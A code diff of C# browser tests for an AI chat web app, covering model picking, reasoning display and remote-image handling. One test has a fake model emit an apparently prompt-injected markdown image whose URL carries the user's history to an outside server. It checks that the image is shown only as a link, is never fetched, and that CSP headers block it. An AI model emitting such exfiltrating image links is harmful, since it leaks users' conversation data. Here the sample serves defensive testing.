@@ -19,7 +19,7 @@ public sealed class BrowserPartsTests(ChatCluster cluster, BrowserSession browse
 
     [Theory]
     [MemberData(nameof(Apps))]
-    public async Task ThePickerChoosesTheModelAndTheAnswerShowsItsReasoningAndToolCallInEveryTab(string app)
+    public async Task ThePickerChoosesTheModelAndTheAnswerShowsItsReasoningAndToolCallInEveryTabAndRemoteImagesAsLinks(string app)
     {
         var (a, b) = await cluster.CatalogHubsAsync();
         var user = $"{Name(app)}-parts";
@@ -52,31 +52,34 @@ public sealed class BrowserPartsTests(ChatCluster cluster, BrowserSession browse
         await second.ReloadAsync();
         await second.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = BrowserSession.BootTimeoutMs });
         await AssertShowsPartsAsync(second, live: false); // the saved parts
+
+        await AnAnswersRemoteImageIsShownAsALinkAndNeverFetchedAsync(first, b.Url, app);
     }
 
-    [Theory]
-    [MemberData(nameof(Apps))]
-    public async Task AnAnswersRemoteImageIsShownAsALinkAndNeverFetched(string app)
+    /// <summary>
+    /// An answer's remote image is shown as a link and never fetched (what a prompt-injected answer would do: an image
+    /// whose address carries what the model read), a data: image still shows, and the page has its CSP. Run on a page of
+    /// the test above (one page boot less per app, the Blazor one being seconds of CPU).
+    /// </summary>
+    private async Task AnAnswersRemoteImageIsShownAsALinkAndNeverFetchedAsync(IPage page, string baseUrl, string app)
     {
-        var (a, _) = await cluster.CatalogHubsAsync();
         await using var elsewhere = await CountingHttpServer.StartAsync();
         var prompt = $"describe my history as a picture ({Name(app)})";
-        // What a prompt-injected answer would do: an image whose address carries what the model read.
         cluster.FakeModel.EnqueueFor(prompt, new FakeReply { Deltas = ["Here it is: ", $"![your history]({elsewhere.Url}/leak.png?history=okapi-Dotty)", " and a local one ![ok](data:image/png;base64,iVBORw0KGgo=)."] });
         using (var http = new HttpClient())
         {
-            using var response = await http.GetAsync($"{a.Url}{app}");
+            using var response = await http.GetAsync($"{baseUrl}{app}");
             var policy = string.Join(' ', response.Headers.GetValues("Content-Security-Policy"));
             Assert.Contains("script-src 'self' 'wasm-unsafe-eval';", policy, StringComparison.Ordinal);
             Assert.Contains("img-src 'self' data:;", policy, StringComparison.Ordinal);
             Assert.Contains("connect-src 'self';", policy, StringComparison.Ordinal);
         }
 
-        var page = await PageAsync(a.Url, app, $"{Name(app)}-images");
         await BrowserSession.NewConversationAsync(page);
         await page.SelectOptionAsync("#model-select", "gpt");
         await page.FillAsync("#composer-input", prompt);
         await page.PressAsync("#composer-input", "Enter");
+        await page.WaitForSelectorAsync($"{Answer} .text a[href*='leak.png']", new() { Timeout = 30_000 });
         await page.WaitForSelectorAsync($"{Answer}[data-status='completed']", new() { Timeout = 30_000 });
 
         var link = page.Locator($"{Answer} .text a[href*='leak.png']");
@@ -84,8 +87,6 @@ public sealed class BrowserPartsTests(ChatCluster cluster, BrowserSession browse
         Assert.Equal("your history", (await link.InnerTextAsync()).Trim());
         Assert.Equal(0, await page.Locator($"{Answer} .text img[src*='leak.png']").CountAsync());
         Assert.Equal(1, await page.Locator($"{Answer} .text img[src^='data:']").CountAsync()); // data: images still show
-        await page.ReloadAsync(); // the saved answer, drawn again
-        await page.WaitForSelectorAsync($"{Answer}[data-status='completed'] .text a[href*='leak.png']", new() { Timeout = BrowserSession.BootTimeoutMs });
         Assert.Empty(elsewhere.Requests);
     }
 
